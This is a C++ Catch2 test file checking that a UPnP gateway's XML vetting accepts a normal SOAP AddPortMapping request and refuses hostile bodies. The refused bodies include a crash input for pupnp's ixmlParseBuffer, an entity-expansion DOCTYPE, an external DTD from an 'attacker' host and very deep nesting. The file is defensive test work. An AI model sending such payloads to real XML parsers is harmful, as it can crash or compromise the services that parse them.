// Only plain, shallow, well-formed XML reaches libixml (issue 14 item 11).
#include <catch2/catch.hpp>

#include <string>

#include "igd/xml_vetting.hpp"

namespace gw {

TEST_CASE("a SOAP AddPortMapping envelope passes the XML vetting") {
    CHECK(vet_xml_body("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n"
                       "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>"
                       "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
                       "<NewPortMappingDescription>a &amp; b &#233;<![CDATA[<x>]]></NewPortMappingDescription>"
                       "</u:AddPortMapping></s:Body></s:Envelope>"));
}

TEST_CASE("the input that crashed pupnp's ixmlParseBuffer is refused, and inputs like it") {
    CHECK(!vet_xml_body("<?v\"?>\r\n<s:Envelope xmlns:s=\"1\"><Nmo.1.1pe>\r\n&#x"));
    CHECK(!vet_xml_body("<s:Envelope xmlns:s=\"1\"><a>&#x"));
    CHECK(!vet_xml_body("<s:Envelope xmlns:s=\"1\"><a>&#x41</a></s:Envelope>"));  // no ';'
    CHECK(!vet_xml_body("<a>&#0;</a>"));                                           // not a character
    CHECK(!vet_xml_body("<a>&#xD800;</a>"));                                        // a surrogate
    CHECK(!vet_xml_body("<a>&amp</a>"));
    CHECK(!vet_xml_body("<a>"));
    CHECK(!vet_xml_body("<a/>#"));  // text after the root: ixml leaks on it
}

TEST_CASE("a DOCTYPE, entity declarations and undeclared entities are refused (no DTD at all)") {
    CHECK(!vet_xml_body("<!DOCTYPE a><a/>"));
    CHECK(!vet_xml_body("<!DOCTYPE a [<!ENTITY b \"bb\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>"));
    CHECK(!vet_xml_body("<!DOCTYPE a SYSTEM \"http://attacker/x.dtd\"><a>&x;</a>"));
    CHECK(!vet_xml_body("<a>&nbsp;</a>"));
}

TEST_CASE("nesting deeper than 16 levels is refused, 16 pass") {
    auto nested = [](int depth) {
        std::string s;
        for (int i = 0; i < depth; ++i) s += "<e>";
        for (int i = 0; i < depth; ++i) s += "</e>";
        return s;
    };
    CHECK(vet_xml_body(nested(16)));
    CHECK(!vet_xml_body(nested(17)));
    CHECK(!vet_xml_body(nested(5000)));
}

TEST_CASE("processing instructions, comments, other encodings and bodies over the limit are refused") {
    CHECK(!vet_xml_body("<?pi x?><a/>"));
    CHECK(!vet_xml_body("<a><!-- c --></a>"));
    CHECK(!vet_xml_body("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>"));
    CHECK(!vet_xml_body("<a>" + std::string(17000, 'x') + "</a>"));
    CHECK(!vet_xml_body(""));
}

}  // namespace gw
